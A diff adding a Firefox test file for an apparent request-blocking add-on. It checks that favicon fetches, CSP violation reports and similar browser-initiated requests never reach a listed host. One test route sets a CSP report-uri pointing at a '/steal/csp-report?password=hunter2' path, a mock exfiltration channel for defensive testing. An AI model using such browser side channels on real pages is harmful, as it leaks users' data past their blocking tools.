@@ -1,0 +1,73 @@
+// Issue 11, part 1, in Firefox ESR: the page of chromium-attacks-browser-fetches.test.ts
+// makes the browser contact a listed host for it. Measured without the add-on:
+// Firefox fetches the favicon and sends the CSP report there (it sends no
+// pings by default, fetches no manifest, and has no speculation rules,
+// PaymentRequest or FedCM). Firefox maps test names to 127.0.0.1 only, so one
+// server records every request with its Host header.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { IncomingMessage, ServerResponse } from 'node:http';
+import type { Page } from 'puppeteer-core';
+import { launchFirefox, waitForFirefoxRules, type LaunchedFirefox } from '../../scripts/lib/firefox.ts';
+import { startServer, type CountingServer, type Route } from './harness/server.ts';
+import { fixtureRoute, fixtureUrl } from './harness/fixture-route.ts';
+import { LISTED, UNLISTED } from './harness/content-setup.ts';
+
+const SETTLE_MS = 2500;
+
+let ff: LaunchedFirefox;
+let server: CountingServer;
+const seen: string[] = [];
+const recorder: Route = (req: IncomingMessage) => {
+  seen.push(`${(req.headers.host ?? '').replace(/:\d+$/, '')} ${req.method ?? ''} ${req.url ?? ''}`);
+  return false;
+};
+
+/** A page whose report-only CSP sends its violation reports to the listed host. */
+const cspReporting: Route = (req: IncomingMessage, res: ServerResponse) => {
+  if (!req.url?.startsWith('/csp-reporting')) return false;
+  res.writeHead(200, {
+    'content-type': 'text/html; charset=utf-8',
+    'content-security-policy-report-only': `img-src 'none'; report-uri http://${LISTED}:${server.port}/steal/csp-report?password=hunter2`,
+  });
+  res.end('<!doctype html><title>reporting</title><img src="/control-img" alt="">');
+  return true;
+};
+
+beforeAll(async () => {
+  let port = 0;
+  server = await startServer('127.0.0.1', [recorder, cspReporting, fixtureRoute({ port: () => port })]);
+  port = server.port;
+  ff = await launchFirefox({ hosts: [LISTED, UNLISTED, 'localhost'] });
+  const page = await ff.browser.newPage();
+  await waitForFirefoxRules(page, `http://${UNLISTED}:${port}/rules`);
+  await page.close();
+});
+
+afterAll(async () => {
+  await ff?.browser.close();
+  await server?.close();
+});
+
+describe('requests the browser makes for a page (Firefox)', () => {
+  let page: Page;
+
+  beforeAll(async () => {
+    page = await ff.browser.newPage();
+    await page.goto(fixtureUrl('localhost', server.port, 'attack-browser-fetches.html'));
+    await page.waitForFunction(() => (window as { __fixture?: { ready?: boolean } }).__fixture?.ready === true, { timeout: 10_000 });
+    const reporting = await ff.browser.newPage();
+    await reporting.goto(`http://localhost:${server.port}/csp-reporting`);
+    await new Promise((r) => setTimeout(r, SETTLE_MS));
+    await reporting.close();
+  });
+
+  it('the page tried every route, and its control requests arrived', async () => {
+    const tried = await page.evaluate(() => (window as unknown as { __fixture: { tried: string[] } }).__fixture.tried);
+    expect(tried).toEqual(['favicon', 'manifest', 'ping', 'speculation-rules', 'payment-manifest', 'fedcm', 'control']);
+    expect(seen).toEqual(expect.arrayContaining(['localhost GET /control', 'localhost GET /control-img']));
+  });
+
+  it('favicon and CSP report: nothing reaches the listed host', () => {
+    expect(seen.filter((s) => s.startsWith(`${LISTED} `))).toEqual([]);
+  });
+});
